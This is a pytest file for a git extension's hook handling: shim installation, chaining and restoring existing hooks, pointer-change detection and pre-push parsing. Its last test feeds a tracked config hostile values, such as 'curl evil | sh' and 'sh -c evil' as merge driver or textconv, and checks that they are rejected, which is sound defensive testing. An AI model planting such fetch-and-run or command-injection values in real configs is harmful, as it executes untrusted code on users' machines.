"""gitquilt.hooks: shims, install/uninstall/chain, change detection, pre-push input."""

from __future__ import annotations

import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from gitquilt import hooks
from gitquilt.config import load_toml
from gitquilt.errors import ConfigError, UsageError
from gitquilt.ops.workspace import Workspace
from tests.conftest import Repo

REPO_ROOT = Path(__file__).resolve().parents[2]


def _ws(repo: Repo) -> Workspace:
    return Workspace.open(repo.root)


@pytest.mark.parametrize("name", hooks.HOOK_NAMES)
def test_hooks_dir_holds_exactly_the_shipped_shims(name: str) -> None:
    path = REPO_ROOT / "hooks" / name
    assert path.read_bytes() == hooks.shim_text(name)
    assert path.stat().st_mode & stat.S_IXUSR
    text = path.read_text()
    assert text.startswith("#!/bin/sh\n")
    assert f'exec git quilt hook {name} "$@"\n' in text
    assert text.count("\n") <= 6  # a shim, not a program


def test_shim_text_refuses_unknown_hook() -> None:
    with pytest.raises(UsageError):
        hooks.shim_text("pre-commit")


def test_install_writes_shims_config_and_attributes(repo: Repo) -> None:
    r = hooks.install(_ws(repo))
    assert r.hooks_dir.resolve() == (repo.root / ".git" / "hooks").resolve()
    assert sorted(r.installed) == sorted(hooks.HOOK_NAMES)
    for name in hooks.HOOK_NAMES:
        p = repo.root / ".git" / "hooks" / name
        assert p.read_bytes() == hooks.shim_text(name)
        assert os.access(p, os.X_OK)
    assert repo.git("config", "merge.quilt.driver").stdout.strip() == "git quilt merge-driver %O %A %B %P"
    assert repo.git("config", "diff.quilt.textconv").stdout.strip() == "git quilt textconv"
    assert "*.quilt merge=quilt" in repo.read(".gitattributes").decode().splitlines()


def test_install_is_idempotent(repo: Repo) -> None:
    hooks.install(_ws(repo))
    attrs = repo.read(".gitattributes")
    again = hooks.install(_ws(repo))
    assert sorted(again.unchanged) == sorted(hooks.HOOK_NAMES)
    assert not (again.installed or again.chained or again.updated or again.config or again.files)
    assert repo.read(".gitattributes") == attrs
    assert not list((repo.root / ".git" / "hooks").glob("*.gitquilt-orig"))


def test_install_chains_existing_hook_and_uninstall_restores_bytes(repo: Repo) -> None:
    hdir = repo.root / ".git" / "hooks"
    original = b"#!/bin/sh\n# my own hook\necho mine >> \"$(git rev-parse --git-dir)/mine.log\"\n"
    (hdir / "post-checkout").write_bytes(original)
    os.chmod(hdir / "post-checkout", 0o750)
    r = hooks.install(_ws(repo))
    assert r.chained == ["post-checkout"]
    assert (hdir / "post-checkout.gitquilt-orig").read_bytes() == original
    assert (hdir / "post-checkout").read_bytes() == hooks.shim_text("post-checkout")
    hooks.install(_ws(repo))  # twice: the original is not overwritten by our shim
    assert (hdir / "post-checkout.gitquilt-orig").read_bytes() == original
    u = hooks.uninstall(_ws(repo))
    assert u.restored == ["post-checkout"]
    assert sorted(u.removed) == sorted(hooks.HOOK_NAMES)
    assert (hdir / "post-checkout").read_bytes() == original
    assert stat.S_IMODE((hdir / "post-checkout").stat().st_mode) == 0o750
    assert not (hdir / "pre-push").exists() and not (hdir / "post-checkout.gitquilt-orig").exists()
    assert repo.git("config", "merge.quilt.driver", check=False).returncode == 1


def test_install_keeps_a_symlinked_hook_as_a_link(repo: Repo, tmp_path: Path) -> None:
    target = tmp_path / "shared-hook"
    target.write_text("#!/bin/sh\nexit 0\n")
    target.chmod(0o755)
    hdir = repo.root / ".git" / "hooks"
    (hdir / "pre-push").symlink_to(target)
    hooks.install(_ws(repo))
    assert os.readlink(hdir / "pre-push.gitquilt-orig") == str(target)
    hooks.uninstall(_ws(repo))
    assert os.readlink(hdir / "pre-push") == str(target)
    assert target.read_text() == "#!/bin/sh\nexit 0\n"


def test_install_refuses_when_foreign_hook_and_orig_both_exist(repo: Repo) -> None:
    hdir = repo.root / ".git" / "hooks"
    (hdir / "post-merge").write_text("#!/bin/sh\necho a\n")
    (hdir / "post-merge.gitquilt-orig").write_text("#!/bin/sh\necho b\n")
    with pytest.raises(UsageError, match="post-merge.gitquilt-orig already exists"):
        hooks.install(_ws(repo))
    # nothing was changed, not even the hooks that could have been installed
    assert not (hdir / "post-checkout").exists()
    assert (hdir / "post-merge").read_text() == "#!/bin/sh\necho a\n"


def test_install_respects_relative_core_hooks_path(repo: Repo) -> None:
    repo.git("config", "core.hooksPath", "tools/githooks")
    sub = repo.root / "sub"
    sub.mkdir()
    r = hooks.install(Workspace.open(sub))
    assert r.hooks_dir == repo.root / "tools" / "githooks"
    assert (repo.root / "tools/githooks/pre-push").read_bytes() == hooks.shim_text("pre-push")
    assert not (repo.root / ".git/hooks/pre-push").exists()


def test_install_rewrites_an_older_shim(repo: Repo) -> None:
    hdir = repo.root / ".git" / "hooks"
    (hdir / "pre-push").write_text(f"#!/bin/sh\n{hooks.MARKER} (old)\nexec git quilt hook pre-push \"$@\"\n")
    r = hooks.install(_ws(repo))
    assert r.updated == ["pre-push"] and not r.chained
    assert (hdir / "pre-push").read_bytes() == hooks.shim_text("pre-push")


def test_uninstall_leaves_a_foreign_hook_alone(repo: Repo) -> None:
    hdir = repo.root / ".git" / "hooks"
    (hdir / "post-merge").write_text("#!/bin/sh\necho foreign\n")
    r = hooks.uninstall(_ws(repo))
    assert r.kept == ["post-merge"]
    assert (hdir / "post-merge").read_text() == "#!/bin/sh\necho foreign\n"


def _commit_pointer(repo: Repo, rel: str, text: str, msg: str) -> str:
    repo.write(rel, text)
    repo.git("add", rel)
    repo.git("commit", "-qm", msg)
    return repo.git("rev-parse", "HEAD").stdout.strip()


def test_changed_pointers_compares_blob_ids_only(make_repo: Callable[..., Repo]) -> None:
    repo = make_repo(init=False)
    a = _commit_pointer(repo, "x.quilt", "not even a pointer 1\n", "1")
    repo.write("deep/dir/y.quilt", "y1\n")
    repo.write("code.py", "print(1)\n")
    repo.git("add", ".")
    repo.git("commit", "-qm", "2")
    b = repo.git("rev-parse", "HEAD").stdout.strip()
    c = _commit_pointer(repo, "code.py", "print(2)\n", "code only")
    repo.git("rm", "-q", "x.quilt")
    repo.git("commit", "-qm", "rm")
    d = repo.git("rev-parse", "HEAD").stdout.strip()
    assert hooks.changed_pointers(repo.root, a, b) == ["deep/dir/y.quilt"]
    assert hooks.changed_pointers(repo.root, b, c) == []
    assert hooks.changed_pointers(repo.root, c, d) == []  # a deleted pointer hydrates nothing
    assert hooks.changed_pointers(repo.root, "0" * 40, d) == ["deep/dir/y.quilt"]
    assert hooks.changed_pointers(repo.root, "0" * 40, b) == ["deep/dir/y.quilt", "x.quilt"]


def test_parse_push_lines() -> None:
    z = "0" * 40
    a = "a" * 40
    data = f"refs/heads/main {a} refs/heads/main {z}\n\nrefs/tags/v1 {a} refs/tags/v1 {z}\n".encode()
    lines = hooks.parse_push_lines(data)
    assert [ln.local_ref for ln in lines] == ["refs/heads/main", "refs/tags/v1"]
    with pytest.raises(UsageError, match="unexpected input"):
        hooks.parse_push_lines(b"garbage\n")


def test_pointers_to_push_excludes_what_the_remote_has(make_repo: Callable[..., Repo]) -> None:
    repo = make_repo(init=False)
    a = _commit_pointer(repo, "a.quilt", "A\n", "1")
    b = _commit_pointer(repo, "b.quilt", "B\n", "2")
    z = "0" * 40
    new_branch = [hooks.PushLine("refs/heads/main", b, "refs/heads/main", z)]
    assert sorted(hooks.pointers_to_push(repo.root, "origin", new_branch).values()) == ["a.quilt", "b.quilt"]
    update = [hooks.PushLine("refs/heads/main", b, "refs/heads/main", a)]
    assert list(hooks.pointers_to_push(repo.root, "origin", update).values()) == ["b.quilt"]
    # a new branch whose base the remote already has through a remote-tracking ref
    repo.git("update-ref", "refs/remotes/origin/main", a)
    assert list(hooks.pointers_to_push(repo.root, "origin", new_branch).values()) == ["b.quilt"]
    # a remote sha we never fetched is ignored rather than failing the push
    unknown = [hooks.PushLine("refs/heads/main", b, "refs/heads/main", "1" * 40)]
    assert list(hooks.pointers_to_push(repo.root, "origin", unknown).values()) == ["b.quilt"]
    deletion = [hooks.PushLine("(delete)", z, "refs/heads/old", a)]
    assert hooks.pointers_to_push(repo.root, "origin", deletion) == {}


def test_tracked_config_cannot_name_executables(tmp_path: Path) -> None:
    cfg = tmp_path / ".gitquilt.toml"
    for text in (
        '[hooks]\ncommand = "curl evil | sh"\n',
        '[hooks]\npost-checkout = "./x"\n',
        '[merge]\ndriver = "sh -c evil"\n',
        '[diff]\ntextconv = "sh -c evil"\n',
        '[core]\nhooksPath = "evil"\n',
        '[remotes.origin]\nurl = "s3://b/p"\ncredential_process = "evil"\n',
    ):
        cfg.write_text(text)
        with pytest.raises(ConfigError):
            load_toml(cfg)
    cfg.write_text("[hooks]\nautofetch = false\n")
    assert load_toml(cfg) == {"hooks": {"autofetch": False}}
